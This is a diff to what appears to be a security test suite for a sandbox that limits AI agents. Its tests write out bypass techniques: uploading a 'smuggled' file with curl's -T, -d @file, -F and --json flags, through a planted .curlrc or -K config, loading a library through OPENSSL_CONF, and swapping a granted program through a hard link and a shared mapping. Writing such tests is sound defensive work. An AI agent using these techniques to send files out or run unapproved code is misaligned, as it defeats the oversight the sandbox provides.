@@ -3,12 +3,13 @@ import os
 import time
 
 from harness import check, command
-from machine import GRANTED, sinks
+from machine import WEB, sinks
 from stage import PROGRAMS
 
 LS, NC, CAT, TRUE, BASH = "/usr/bin/ls", "/usr/bin/nc.openbsd", "/usr/bin/cat", "/usr/bin/true", "/usr/bin/bash"
 LOADER = "/lib64/ld-linux-x86-64.so.2"
 BUSYBOX = "/usr/bin/busybox"
+DOWNLOADING = "download http://weather.com/report with curl"
 LIBRARY = f"{PROGRAMS}/constructor.so"
 
 
@@ -179,26 +180,25 @@ def applet_by_another_name(stage):
 
 
 def _uploads(stage, *words, environment=None):
-    sinks[GRANTED].forget()
-    stage.attempt(stage.actor(f"download http://weather.com:{GRANTED}/report with curl"), "programs.command_whatever",
-                  environment or {}, "/usr/bin/curl", "-s", "-m", "1", *words,
-                  effect=lambda: any("smuggled" in text for text in sinks[GRANTED].arrived))
+    sinks[WEB].bodies.clear()
+    stage.attempt(stage.actor(DOWNLOADING), "programs.command_whatever", environment or {}, "/usr/bin/curl", "-s", "-m", "5",
+                  *words, "http://weather.com/", effect=lambda: any(b"smuggled" in body for body in sinks[WEB].bodies))
 
 
 def curl_uploads(stage):
-    secret, url = stage.write(stage.path("text"), "smuggled\n"), f"http://weather.com:{GRANTED}/"
-    for words in (["-T", secret], [f"-T{secret}"], ["--upload-file", secret], ["-d", f"@{secret}"],
-                  ["--data-binary", f"@{secret}"], ["-F", f"a=@{secret}"], ["--json", f"@{secret}"], ["-sT", secret]):
-        _uploads(stage, *words, url)
+    text = stage.write(stage.path("text"), "smuggled\n")
+    for words in (["-T", text], [f"-T{text}"], ["--upload-file", text], ["-d", f"@{text}"], ["--data-binary", f"@{text}"],
+                  ["-F", f"a=@{text}"], ["--json", f"@{text}"], ["-sT", text]):
+        _uploads(stage, *words)
 
 
 def curl_uploads_by_configuration(stage):
-    secret, url = stage.write(stage.path("text"), "smuggled\n"), f"http://weather.com:{GRANTED}/"
-    settings = stage.write(stage.path("settings"), f"upload-file = {secret}\n")
-    _uploads(stage, "-K", settings, url)
-    stage.write(stage.path(".curlrc"), f"upload-file = {secret}\n")
-    _uploads(stage, url, environment={"HOME": stage.directory})
-    _uploads(stage, url, environment={"CURL_HOME": stage.directory})
+    text = stage.write(stage.path("text"), "smuggled\n")
+    settings = stage.write(stage.path("settings"), f"upload-file = {text}\n")
+    _uploads(stage, "-K", settings)
+    stage.write(stage.path(".curlrc"), f"upload-file = {text}\n")
+    for variable in ("HOME", "CURL_HOME"):
+        _uploads(stage, environment={variable: stage.directory})
 
 
 def bash_reads_a_start_file(stage):
@@ -242,8 +242,7 @@ def library_of_a_cipher_engine(stage):
     library = stage.copy(LIBRARY, stage.path("engine.so"))
     settings = stage.write(stage.path("openssl.cnf"), "openssl_conf = all\n[all]\nengines = every\n[every]\none = it\n"
                            f"[it]\nengine_id = it\ndynamic_path = {library}\ninit = 0\n")
-    _loads(stage, f"download http://weather.com:{GRANTED}/report with curl", ["/usr/bin/curl", "-s", "-m", "1", "https://127.0.0.1:1/"],
-           {"OPENSSL_CONF": settings})
+    _loads(stage, DOWNLOADING, ["/usr/bin/curl", "-s", "-m", "1", "https://127.0.0.1:1/"], {"OPENSSL_CONF": settings})
 
 
 def _granted_tool(stage):
@@ -283,6 +282,19 @@ def granted_program_written_through_a_link(stage):
     written = actor.do("files.append", stage.home("alias"))
     check(written.error is None, f"the link leads into the home, where agents write: {written.error}")
     stage.attempt(actor, "processes.spawn", tool)
+
+
+def granted_program_changed_through_a_mapped_link(stage):
+    """A store into a shared mapping tells no change time (tmpfs); the mapping was there before."""
+    tool, other = stage.copy(TRUE, stage.outside("tool")), stage.copy("/usr/bin/false", stage.path("other"))
+    alias = stage.home("alias")
+    os.link(tool, alias)
+    _settle()
+    actor = stage.actor(f"run {tool}", fresh=True)
+    stage.setup(actor, "files.keep_mapping", "tool", alias)
+    stage.setup(actor, "files.change_mapping", "tool", other)
+    ran = stage.attempt(actor, "processes.spawn", tool)
+    check(stage.held or ran.value == 1, "the store did not change the program")
 
 
 def aliases_in_proc(stage):
